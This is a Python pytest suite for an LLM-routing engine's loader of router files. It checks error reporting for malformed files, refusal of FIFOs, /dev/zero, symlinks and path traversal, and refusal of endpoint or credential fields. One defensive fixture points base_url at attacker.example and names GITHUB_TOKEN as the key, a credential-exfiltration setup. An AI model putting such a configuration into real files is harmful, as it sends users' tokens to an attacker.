"""The hostile suite, files a flow names: a router file is data from the flow's own folder, a regular file under a size
limit with every field checked, and it cannot choose an endpoint or a credential. Every failure is E312 with the field,
never a traceback, never a hang (a FIFO), never memory run out (/dev/zero)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from engine.loading import check_source
from engine.pool import load_pool
from engine.router.files import load_router
from engine.router.model import Example, train_router
from tests.conftest import ROOT

POOL = ('[providers.replay]\nkind = "replay"\n\n[models.cheap]\nprovider = "replay"\nid = "m-cheap"\ninput_price = 0.1\noutput_price = 0.4\n\n'
        '[models.strong]\nprovider = "replay"\nid = "m-strong"\ninput_price = 5.0\noutput_price = 15.0\n')
FLOW = 'input question\n\nroute answer by router "{file}" {{\n  "cheap" -> fast\n  "strong" -> slow\n}}\n\n' \
       'step fast {{ model: cheap  task: "{{question}}" }}\nstep slow {{ model: strong  task: "{{question}}" }}\n'


def good_router() -> dict[str, Any]:
    examples = [Example(f"what is {i} plus {i}", {"cheap": i % 2, "strong": 1}) for i in range(20)]
    return train_router(examples, {"cheap": "m-cheap", "strong": "m-strong"}).to_json()


def diagnose(folder: Path, file: str) -> list[tuple[str, str]]:
    (folder / "models.toml").write_text(POOL)
    flow = folder / "routed.flow"
    flow.write_text(FLOW.format(file=file))
    result = check_source(flow.read_text(), load_pool(folder / "models.toml"), str(flow))
    return [(d.code, d.message) for d in result.diagnostics if d.severity == "error"]


def write(folder: Path, data: Any) -> str:
    (folder / "r.router").write_text(json.dumps(data).replace('"__1e400__"', "1e400"))  # JSON for a number past a double
    return "r.router"


MALFORMED: dict[str, tuple[str, Any]] = {  # name -> (field named in the message, the change)
    "models empty list": ("models", lambda d: d.update(models=[])),
    "idf a list": ("idf", lambda d: d.update(idf=[])),
    "weights a string": ("weights", lambda d: d.update(weights="x")),
    "examples of numbers": ("examples[0]", lambda d: d.update(learner="knn", examples=[[1, 2]])),
    "threshold a string": ("calibration.threshold", lambda d: d.update(calibration={"threshold": "high"})),
    "accuracy a word": ("accuracy", lambda d: d["models"]["cheap"].update(accuracy="high")),
    "embeddings with no alias": ("features.alias", lambda d: d.update(features={"kind": "embeddings"})),
    "a bias that is not finite": ("bias.cheap", lambda d: d["bias"].update(cheap="__1e400__")),
    "an unknown learner": ("learner", lambda d: d.update(learner="oracle")),
    "k zero": ("k", lambda d: d.update(k=0)),
}


@pytest.mark.parametrize("name", list(MALFORMED))
def test_a_malformed_router_file_is_e312_naming_the_field(tmp_path: Path, name: str) -> None:
    """Finding 11: seven malformed files gave tracebacks instead of E312, some only at run time."""
    field, change = MALFORMED[name]
    data = good_router()
    change(data)
    (error,) = diagnose(tmp_path, write(tmp_path, data))
    assert error[0] == "E312" and field in error[1], error


@pytest.mark.parametrize("key", ["base_url", "api_key_env"])
def test_a_router_file_cannot_choose_an_endpoint_or_a_credential(tmp_path: Path, key: str) -> None:
    """Finding 7: a router file decided which environment variable was sent as a bearer token, and to which URL."""
    data = good_router()
    data["features"] = {"kind": "embeddings", "base_url": "http://attacker.example/v1", "api_key_env": "GITHUB_TOKEN", "alias": "cheap"}
    (error,) = diagnose(tmp_path, write(tmp_path, data))
    assert error[0] == "E312" and "cannot choose an endpoint or a credential" in error[1]


def test_a_router_on_embeddings_names_a_pool_alias_the_pool_must_have(tmp_path: Path) -> None:
    data = good_router()
    data["features"] = {"kind": "embeddings", "alias": "nowhere"}
    (error,) = diagnose(tmp_path, write(tmp_path, data))
    assert error[0] == "E312" and "`nowhere`" in error[1]


def test_a_fifo_is_refused_at_once(tmp_path: Path) -> None:
    """Finding 11: a FIFO hung validate, the language server and serve start-up."""
    os.mkfifo(tmp_path / "r.router")
    (error,) = diagnose(tmp_path, "r.router")  # in this process: it would hang here
    assert error[0] == "E312" and "not a regular file" in error[1]
    proc = subprocess.run([sys.executable, "-m", "engine.cli.main", "validate", str(tmp_path / "routed.flow"), "--pool",
                           str(tmp_path / "models.toml")], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1 and "E312" in proc.stderr and "Traceback" not in proc.stderr
    from engine.lsp import features  # the language server: diagnostics, and its requests still answered

    analysis = features.analyse((tmp_path / "routed.flow").read_text(), load_pool(tmp_path / "models.toml"), str(tmp_path / "routed.flow"))
    assert [d.code for d in analysis.check.errors] == ["E312"]
    assert features.complete(analysis, 4, 1) is not None and features.outline(analysis) is not None


@pytest.mark.parametrize("target", ["/dev/zero", "/etc/hostname"])
def test_a_file_outside_the_flows_folder_is_never_read(tmp_path: Path, target: str) -> None:
    """Finding 11: /dev/zero was read until memory ran out; a flow could name any file on the machine."""
    (tmp_path / "link.router").symlink_to(target)
    for name in (target, "link.router", "../" * 12 + target.lstrip("/")):
        (error,) = diagnose(tmp_path, name)
        assert error[0] == "E312" and "outside the flow's folder" in error[1]


def test_a_huge_router_file_is_refused_before_it_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import engine.router.files as files

    monkeypatch.setattr(files, "MAX_ROUTER_BYTES", 100)
    data = good_router()
    (error,) = diagnose(tmp_path, write(tmp_path, data))
    assert error[0] == "E312" and "over the" in error[1]


def test_a_good_router_file_still_loads(tmp_path: Path) -> None:
    assert diagnose(tmp_path, write(tmp_path, good_router())) == []
    assert set(load_router(tmp_path / "r.router").models) == {"cheap", "strong"}


def test_validate_says_what_a_learned_route_will_call(tmp_path: Path) -> None:
    """`validate` says what a route will call: a router file beside a flow decides it, so the user must see it."""
    data = good_router()
    data["features"] = {"kind": "embeddings", "alias": "embedder"}
    write(tmp_path, data)
    diagnose(tmp_path, "r.router")  # writes the flow and a pool without the alias
    (tmp_path / "models.toml").write_text(POOL + '\n[providers.emb]\nkind = "openai"\nbase_url = "http://127.0.0.1:9/v1"\n'
                                                 'api_key_env = "EMB_KEY"\n\n[models.embedder]\nprovider = "emb"\nid = "bge"\n')
    proc = subprocess.run([sys.executable, "-m", "engine.cli.main", "validate", str(tmp_path / "routed.flow")], cwd=tmp_path,
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert "route `answer` embeds the inputs through `embedder`: POST http://127.0.0.1:9/v1/embeddings (model bge, with the key in " \
           "$EMB_KEY)" in proc.stdout
    write(tmp_path, good_router())
    hashed = subprocess.run([sys.executable, "-m", "engine.cli.main", "validate", str(tmp_path / "routed.flow")], cwd=tmp_path,
                            capture_output=True, text=True, timeout=60)
    assert "route `answer` decides from hashed words of the inputs: no call" in hashed.stdout
